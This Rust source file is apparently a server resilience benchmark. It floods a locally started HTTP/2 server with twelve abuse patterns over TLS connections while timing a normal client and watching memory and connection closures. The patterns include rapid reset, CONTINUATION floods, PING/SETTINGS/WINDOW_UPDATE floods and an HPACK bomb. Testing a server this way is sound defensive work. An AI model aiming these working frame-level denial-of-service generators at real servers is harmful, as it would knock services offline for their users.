//! Abuse of HTTP/2: whether the server ends it, and what it does to the good client and to memory.

use std::{
    io,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use parking_lot::Mutex;
use rustls::{ClientConfig, pki_types::ServerName};
use tokio::{
    io::{AsyncWriteExt, split},
    net::TcpStream,
    runtime::Runtime,
    time::{MissedTickBehavior, interval, sleep, timeout},
};
use tokio_rustls::TlsConnector;

use crate::{
    Bars, HTTP2_CONNECTIONS, HTTP2_RATE, HTTP2_SPAN, P99_RATIO, ROUNDS, as_f64,
    door::{Door, HOST, Setting},
    frames::{
        self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, LARGEST, NEWEST, PING, PREFACE, RST_STREAM,
        SETTINGS, WINDOW_UPDATE, frame, indexed, literal,
    },
    good, median, mib, ms, ratio, row, table,
    upstream::App,
};

/// How often each connection sends what is due.
const TICK: Duration = Duration::from_millis(10);
/// Before a connection that was closed is opened anew.
const PAUSE: Duration = Duration::from_millis(50);
const PATIENCE: Duration = Duration::from_secs(2);
/// What memory may grow by under one attack, in KiB.
const GROWTH: u64 = 32 << 10;

struct Attack {
    name: &'static str,
    /// Of all connections together.
    a_second: u32,
    /// Sent once, after the preface.
    opening: fn(&[u8]) -> Vec<u8>,
    /// Sent again and again, with a new stream each time. The slice is the header block of a good request.
    again: fn(&[u8], u32) -> Vec<u8>,
    listens: bool,
}

fn nothing(_: &[u8]) -> Vec<u8> {
    Vec::new()
}

const PLAIN: Attack = Attack { name: "", a_second: 10_000, opening: nothing, again: |_, _| vec![], listens: true };

fn get(block: &[u8], stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
}

const ATTACKS: [Attack; 12] = [
    Attack {
        name: "rapid reset",
        again: |block, stream| [get(block, stream), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat(),
        ..PLAIN
    },
    Attack {
        name: "resets made by the server",
        again: |block, stream| [get(block, stream), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat(),
        ..PLAIN
    },
    Attack {
        name: "CONTINUATION without end",
        opening: |block| frame(HEADERS, END_STREAM, 1, block),
        again: |_, _| frame(CONTINUATION, 0, 1, &literal("x-a", &"a".repeat(500))),
        ..PLAIN
    },
    Attack {
        name: "CONTINUATION, empty",
        opening: |block| frame(HEADERS, END_STREAM, 1, block),
        again: |_, _| frame(CONTINUATION, 0, 1, &[]),
        ..PLAIN
    },
    Attack { name: "SETTINGS", again: |_, _| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]), ..PLAIN },
    Attack { name: "PING", again: |_, _| frame(PING, 0, 0, &[7; 8]), ..PLAIN },
    Attack {
        name: "PING, answers not read",
        a_second: 100_000,
        again: |_, _| frame(PING, 0, 0, &[7; 8]),
        listens: false,
        ..PLAIN
    },
    Attack {
        name: "DATA, empty",
        opening: |block| frame(HEADERS, END_HEADERS, 1, block),
        again: |_, _| frame(DATA, 0, 1, &[]),
        ..PLAIN
    },
    Attack { name: "WINDOW_UPDATE of 0", again: |_, _| frame(WINDOW_UPDATE, 0, 0, &[0; 4]), ..PLAIN },
    Attack { name: "WINDOW_UPDATE of 1", again: |_, _| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]), ..PLAIN },
    Attack {
        name: "16 MiB of headers",
        a_second: 4_000,
        opening: |block| frame(HEADERS, END_STREAM, 1, block),
        again: sixteen_mib,
        ..PLAIN
    },
    Attack { name: "HPACK bomb, 16 MiB in 8 KiB", a_second: 1_000, again: bomb, ..PLAIN },
];

/// Of 16 KiB each: streams have odd numbers, and the 1024th ends the block.
fn sixteen_mib(_: &[u8], number: u32) -> Vec<u8> {
    let flags = if (number / 2).is_multiple_of(1024) { END_HEADERS } else { 0 };
    frame(CONTINUATION, flags, 1, &literal("x-a", &"a".repeat(LARGEST - 100)))
}

fn bomb(block: &[u8], stream: u32) -> Vec<u8> {
    let again = vec![NEWEST; 4_100];
    get(&[block, &indexed("x-a", &"a".repeat(4_000)), &again].concat(), stream)
}

/// What became of an attack.
#[derive(Default)]
struct Course {
    sent: AtomicU64,
    answers: AtomicU64,
    resets: AtomicU64,
    opened: AtomicU64,
    /// Connections the server ended.
    closed: AtomicU64,
    goaway: Mutex<Option<u32>>,
    is_over: AtomicBool,
}

pub fn measure(runtime: &Runtime, app: &App, bars: &mut Bars) {
    let door = Door::start(app, Setting { tls: true, ..Setting::default() });
    good::ask(&door, HTTP2_RATE, HTTP2_SPAN / 3);
    let mut rows = vec![row![
        "abuse",
        "sent a second",
        "connections",
        "closed by the server",
        "answers",
        "resets",
        "processor",
        "p99 alone",
        "p99 beside",
        "ratio",
        "memory",
        "grown by"
    ]];
    let (mut failed, mut most_grown, mut worst) = (0, 0, (0.0, ""));
    for attack in &ATTACKS {
        let before = door.memory();
        let course = Arc::new(Course::default());
        let (mut alone, mut beside, mut during) = (vec![], vec![], 0);
        let (mut spent, mut used) = (Duration::ZERO, Duration::ZERO);
        for _ in 0..ROUNDS {
            let served = good::ask(&door, HTTP2_RATE, HTTP2_SPAN);
            alone.push(served.percentile(99));
            failed += served.failed;
            let (start, processor) = (Instant::now(), door.processor());
            course.is_over.store(false, Ordering::Relaxed);
            let attackers: Vec<_> = (0..HTTP2_CONNECTIONS)
                .map(|_| runtime.spawn(assail(attack, Asker::new(&door), course.clone())))
                .collect();
            let served = good::ask(&door, HTTP2_RATE, HTTP2_SPAN);
            beside.push(served.percentile(99));
            failed += served.failed;
            during = during.max(door.memory());
            spent += start.elapsed();
            used += door.processor() - processor;
            course.is_over.store(true, Ordering::Relaxed);
            runtime.block_on(async {
                for attacker in attackers {
                    let _ = timeout(PATIENCE, attacker).await;
                }
            });
        }
        let read = |count: &AtomicU64| count.load(Ordering::Relaxed);
        let (opened, closed) = (read(&course.opened), read(&course.closed));
        let goaway = course.goaway.lock().map_or_else(String::new, |code| format!(" (GOAWAY {code})"));
        let (alone, beside) = (median(alone), median(beside));
        let ratio = ratio(beside, alone);
        let grown = during.saturating_sub(before);
        rows.push(row![
            attack.name,
            format!("{:.0}", as_f64(read(&course.sent)) / spent.as_secs_f64()),
            opened,
            if closed == 0 { "none".to_owned() } else { format!("{closed}{goaway}") },
            read(&course.answers),
            read(&course.resets),
            format!("{:.0} %", 100.0 * used.as_secs_f64() / spent.as_secs_f64()),
            ms(alone),
            ms(beside),
            format!("{ratio:.2}"),
            mib(during),
            mib(grown)
        ]);
        most_grown = most_grown.max(grown);
        if ratio > worst.0 {
            worst = (ratio, attack.name);
        }
    }
    let title = format!(
        "Abuse of HTTP/2 over {HTTP2_CONNECTIONS} connections, and a good client of TLS at {HTTP2_RATE} requests a second"
    );
    table(&title, &rows);
    bars.hold(failed == 0, &format!("every good request is served beside abuse of HTTP/2 ({failed} failed)"));
    bars.hold(most_grown <= GROWTH, &format!("memory grows by {} at most", mib(most_grown)));
    Bars::say(worst.0 <= P99_RATIO, &format!("p99 is at most {:.2} times that alone, under {}", worst.0, worst.1));
}

/// What an attacker needs to begin.
struct Asker {
    address: std::net::SocketAddr,
    tls: Arc<ClientConfig>,
    /// Of a good request.
    block: Vec<u8>,
}

impl Asker {
    fn new(door: &Door) -> Self {
        let fields =
            [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/"), ("cookie", &door.cookie)];
        Self {
            address: door.address,
            tls: door.tls("h2").expect("TLS"),
            block: fields.into_iter().flat_map(|(name, value)| literal(name, value)).collect(),
        }
    }
}

/// Attacks over one connection after the other, until it is over.
async fn assail(attack: &'static Attack, asker: Asker, course: Arc<Course>) {
    while !course.is_over.load(Ordering::Relaxed) {
        if attack_once(attack, &asker, &course).await.is_err() {
            sleep(PAUSE).await;
        }
    }
}

async fn attack_once(attack: &Attack, asker: &Asker, course: &Course) -> io::Result<()> {
    let tcp = TcpStream::connect(asker.address).await?;
    let name = ServerName::try_from(HOST).expect("a name");
    let stream = TlsConnector::from(asker.tls.clone()).connect(name, tcp).await?;
    course.opened.fetch_add(1, Ordering::Relaxed);
    let (read, mut write) = split(stream);
    let writing = async {
        write.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &(attack.opening)(&asker.block)].concat()).await?;
        let mut every = interval(TICK);
        every.set_missed_tick_behavior(MissedTickBehavior::Burst);
        let each = f64::from(attack.a_second) * TICK.as_secs_f64() / as_f64(HTTP2_CONNECTIONS as u64);
        let (mut owed, mut stream) = (0.0, 3);
        while !course.is_over.load(Ordering::Relaxed) {
            every.tick().await;
            let mut batch = Vec::new();
            let mut count = 0;
            owed += each;
            while owed >= 1.0 {
                batch.extend((attack.again)(&asker.block, stream));
                stream += 2;
                count += 1;
                owed -= 1.0;
            }
            write.write_all(&batch).await?;
            write.flush().await?;
            course.sent.fetch_add(count, Ordering::Relaxed);
        }
        io::Result::Ok(())
    };
    let mut listening = Box::pin(frames::listen(read));
    let (written, said) = if attack.listens {
        tokio::select! {
            written = writing => (Some(written), timeout(PATIENCE / 4, &mut listening).await.ok()),
            said = &mut listening => (None, Some(said)),
        }
    } else {
        // Even what is not read must end with the attack.
        (timeout(HTTP2_SPAN, writing).await.ok(), None)
    };
    if let Some(said) = &said {
        course.answers.fetch_add(said.answers, Ordering::Relaxed);
        course.resets.fetch_add(said.resets, Ordering::Relaxed);
        if said.goaway.is_some() {
            *course.goaway.lock() = said.goaway;
        }
    }
    let lives = matches!(written, Some(Ok(()))) || !attack.listens && written.is_none();
    if lives {
        return Ok(());
    }
    course.closed.fetch_add(1, Ordering::Relaxed);
    Err(io::ErrorKind::ConnectionAborted.into())
}
